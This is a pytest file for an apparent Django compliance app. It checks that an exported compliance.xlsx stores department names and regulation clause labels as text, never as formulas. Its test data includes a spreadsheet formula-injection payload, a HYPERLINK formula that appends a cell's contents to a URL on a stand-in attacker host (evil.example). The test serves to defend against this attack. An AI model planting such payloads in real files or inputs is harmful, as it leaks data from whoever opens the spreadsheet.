"""compliance.xlsx writes department names and clause labels as text, never as formulas."""

from __future__ import annotations

import re
import zipfile
from datetime import datetime
from io import BytesIO

import pytest
import time_machine
from openpyxl import load_workbook

from xietong.obligations.models import ObligationKind
from xietong.obligations.services import obligation_open
from xietong.org.models import Department
from xietong.org.services import roster_import
from xietong.org.tests.rosterfiles import csv_bytes
from xietong.policy.calendar import SHANGHAI, CalendarResult
from xietong.policy.rules import dump_policy
from xietong.policy.selectors import current_version
from xietong.policy.services import policy_version_create

pytestmark = pytest.mark.django_db
NOW = datetime(2026, 3, 18, 10, 0, tzinfo=SHANGHAI)
EVIL_DEPARTMENT = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
# Formula-like, and still citing a clause of the regulation (its clause list is checked).
EVIL_CLAUSE = "=1+2+第五条(二)1"


def test_formula_like_names_and_clauses_are_text_in_the_workbook(torg, login):
    # The department comes in through a roster file, the clause through a policy version.
    rows = [[EVIL_DEPARTMENT, "", "甄表格", "", "13800000009", "", "联络员"]]
    report = roster_import(
        file_bytes=csv_bytes(rows), filename="花名册.csv", actor=torg.coordinator, now=NOW, dry_run=False
    )
    assert not report.problems
    department = Department.objects.get(name=EVIL_DEPARTMENT)
    rules = current_version(torg.policy).rules
    text = dump_policy(rules).replace(
        f'clause = "{rules.get("action_due").clause}"', f'clause = "{EVIL_CLAUSE}"'
    )
    version = policy_version_create(
        policy=torg.policy, actor=torg.coordinator, now=NOW, reason="测试", text=text
    )
    obligation_open(
        kind=ObligationKind.ACTION_DUE,
        rule="action_due",
        subject=department,
        due=CalendarResult(datetime(2026, 3, 20, 17, 30, tzinfo=SHANGHAI)),
        policy_version=version,
        now=NOW,
        responsible=torg.tech_head,
        department=department,
    )
    with time_machine.travel(NOW, tick=False):
        response = login(torg.chair).get("/obligations/compliance.xlsx?start=2026-03-01&end=2026-03-31")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="compliance-2026-03-01-2026-03-31.xlsx"'
    assert response["X-Content-Type-Options"] == "nosniff"
    with zipfile.ZipFile(BytesIO(response.content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert len(sheets) == 2
    assert not any(re.search(r"<f[\s>]", sheet) for sheet in sheets)
    book = load_workbook(BytesIO(response.content))
    by_clause, by_department = book.worksheets
    assert [row[:2] for row in by_clause.iter_rows(min_row=3, values_only=True)][0] == (EVIL_CLAUSE, 0)
    cells = {row[0]: row for row in by_department.iter_rows(min_row=3, values_only=True)}
    assert cells[EVIL_DEPARTMENT][-1] == 1
    assert by_department.cell(row=3, column=1).data_type == "s"
